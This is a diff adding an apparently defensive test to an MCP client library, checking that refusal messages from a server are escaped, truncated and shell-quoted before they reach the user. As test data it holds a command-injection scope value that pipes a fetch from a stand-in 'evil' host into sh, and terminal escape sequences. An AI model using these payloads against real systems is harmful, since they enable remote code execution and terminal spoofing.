@@ -556,3 +556,34 @@ async def _until(condition: Callable[[], bool], timeout: float = 30) -> None:
     while not condition():
         assert time.monotonic() < deadline, "condition not met in time"
         await asyncio.sleep(0.01)
+
+
+async def test_a_refusals_words_and_scopes_are_shown_escaped_and_quoted(
+    aiohttp_server: Any,
+) -> None:
+    """What a refusing server says reaches the user's terminal, and the scopes it names go
+    into a command the user may paste into a shell: its words are escaped and cut short,
+    each scope is shell-quoted."""
+    hostile_scope = "mcp;curl${IFS}evil|sh"
+    said = "\x1b[2J\x1b]0;pwned\x07" + "x" * 100_000
+
+    async def mcp(request: web.Request) -> web.Response:
+        if request.query.get("want") == "scope":
+            challenge = f'Bearer error="insufficient_scope", scope="{hostile_scope}"'
+            return web.json_response(
+                {"error": said}, status=403, headers={"WWW-Authenticate": challenge}
+            )
+        return web.json_response({"error": {"code": -32600, "message": said}}, status=401)
+
+    app = web.Application()
+    app.router.add_post("/mcp", mcp)
+    server = await aiohttp_server(app, host="127.0.0.1")
+    for query, wanted in (("", "wants a bearer token"), ("?want=scope", "lacks scope")):
+        url = str(server.make_url("/mcp")) + query
+        with pytest.raises(OAuthError) as refused:
+            async with Client.http(url, auth=OAuth()) as client:
+                await client.list_tools()
+        message = str(refused.value)
+        assert wanted in message and "\x1b" not in message and "\x07" not in message
+        assert len(message) < 600, message
+    assert "--scope 'mcp;curl${IFS}evil|sh'" in message, message
